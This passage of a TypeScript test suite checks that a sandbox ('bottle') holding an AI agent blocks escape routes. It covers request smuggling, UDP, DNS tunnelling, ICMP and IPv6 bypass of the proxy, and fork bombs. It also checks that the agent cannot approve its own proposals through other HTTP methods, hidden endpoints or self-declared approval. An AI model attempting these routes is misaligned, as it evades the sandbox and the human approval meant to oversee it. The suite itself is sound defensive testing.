      for (const name of t.untouched) expect(await since(name), `${t.key}: ${name} was reached`).toEqual([]);
      for (const port of t.allowedPortsUntouched ?? []) expect((await since('allowed')).filter((c) => c.port === port), `${t.key}: allowed reached on ${port}`).toEqual([]);
      if (t.reaches) expect((await requestsSeen('allowed')).filter((l) => l.includes(` ${t.reaches} `))).toHaveLength(1);
    });
  }

  it('no smuggled request reached any server: the allowed one saw only the pipelined controls, the others nothing', async () => {
    const seen = await requestsSeen('allowed');
    const got = seen.map((l) => l.split(' ').slice(1, 4).join(' '));
    expect(got).toContain('80 GET /pipelined-first');
    for (const g of got) expect(['80 GET /pipelined-first', '80 GET /pipelined-connect']).toContain(g);
    expect(got.length).toBeLessThanOrEqual(2);
    for (const name of NOT_ALLOWED) expect(await requestsSeen(name), name).toEqual([]);
  });

  it('UDP straight at a denied server’s address fails: the bottle has no route', () => {
    expect(r.udp_direct).toMatch(/^error:(ENETUNREACH|EHOSTUNREACH|EACCES|EPERM)/);
  });

  it('a DNS question that carries data (DNS tunnelling) is not answered, under a denied or an allowed name', () => {
    expect(r.dns_tunnel).toBe('unresolved');
    expect(r.dns_tunnel_allowed).toBe('unresolved');
  });

  it('ICMP around the proxy (an unprivileged ICMP datagram socket) reaches nothing', () => {
    expect(r.icmp_direct).toMatch(/^(socket:|send:)/);
  });

  it('IPv6 around the proxy (the denied server’s IPv4-mapped IPv6 address, TCP and UDP) reaches nothing', async () => {
    expect(r.ipv6_tcp).toMatch(/^error:/);
    expect(r.ipv6_udp).toMatch(/^error:/);
    expect(await since('denied')).toEqual([]);
  });

  it('forking without bound stops at the pids limit (EAGAIN), the agent lives on, and the host is unaffected', async () => {
    expect(r.fork_error).toBe('EAGAIN');
    expect(Number(r.fork_ok)).toBeGreaterThan(0);
    expect(Number(r.fork_ok)).toBeLessThan(PIDS);
    expect(r.after_fork).toBe('alive');
    expect((observedPids as number | undefined) ?? 0).toBe(PIDS);
  });

  it('supervise: the agent’s own proposal is accepted as pending', () => {
    expect(r.sv_id).toMatch(/^[A-Za-z0-9_-]+$/);
  });

  it('supervise: PUT, PATCH, POST and DELETE on /proposals/ID cannot approve it (405)', () => {
    for (const k of ['put_one', 'patch_one', 'post_one', 'delete_one']) expect(r[`sv_${k}`], k).toBe('405');
  });

  it('supervise: no approve or decisions endpoint exists (/proposals/ID/approve, /approve, /decisions, /decisions.json: 404)', () => {
    for (const k of ['post_approve', 'post_root_approve', 'post_decisions', 'put_decisions']) expect(r[`sv_${k}`], k).toBe('404');
  });

  it('supervise: /current cannot be written (405), and a query string on POST /proposals approves nothing', () => {
    expect(r.sv_put_current).toBe('405');
    // The body is a decision, not a proposal: refused as one.
    expect(r.sv_post_approve_query).toBe('400');
  });

  it('supervise: a proposal on behalf of another bottle (bottle, identity, run keys) is refused with 400', () => {
    expect(r.sv_other_bottle).toBe('400');
    expect(r.sv_other_identity).toBe('400');
  });

  it('supervise: a proposal that calls itself approved is refused with 400', () => {
    expect(r.sv_self_approved).toBe('400');
  });

  it('supervise: after every attempt the proposal is still pending, for the agent and on the host, and the denied host is still denied', () => {
    expect(r.sv_after).toMatch(/"status":"pending"/);
    expect(r.sv_denied_after).toBe('403');
    // On the host, while the bottle ran: the one proposal, pending.
    expect(proposals.map((p) => p.status), JSON.stringify(proposals)).toEqual(['pending']);
    // And after the run: never approved (no decision is in the run's log).
    expect(proposalsAfter.every((p) => p.status !== 'approved'), JSON.stringify(proposalsAfter)).toBe(true);
    expect(timeline.filter((e) => /approv/i.test(String(e.type))), JSON.stringify(timeline.filter((e) => /approv/i.test(String(e.type))))).toEqual([]);
  });

  it('supervise: the audit has the one proposal and each refused body as `rejected` with status 400', () => {
    expect(supervise.filter((e) => e.type === 'proposal')).toHaveLength(1);
    const rejected = supervise.filter((e) => e.type === 'rejected');
    expect(rejected.length).toBeGreaterThanOrEqual(4);
    expect(rejected.every((e) => e.status === 400)).toBe(true);
  });

  it('supervise: every write or approval tried through another method or endpoint is in the audit as `refused`', () => {
    const refused = supervise.filter((e) => e.type === 'refused').map((e) => `${String(e.status)} ${String(e.method)} ${String(e.endpoint)}`);
    expect(refused, JSON.stringify(refused)).toEqual(
      expect.arrayContaining([
        '405 PUT /proposals/ID',
        '405 PATCH /proposals/ID',
        '405 POST /proposals/ID',
        '405 DELETE /proposals/ID',
        '405 PUT /current',
        '404 POST unknown',
        '404 PUT unknown',
      ]),
    );
    // /proposals/ID/approve, /approve, /decisions (POST) and /decisions.json (PUT).
    expect(refused.filter((x) => x.startsWith('404 ')).length).toBeGreaterThanOrEqual(4);
  });

  it('teardown left nothing of the bottle', async () => {
    expect(await leftovers(identity)).toEqual([]);
  });
});
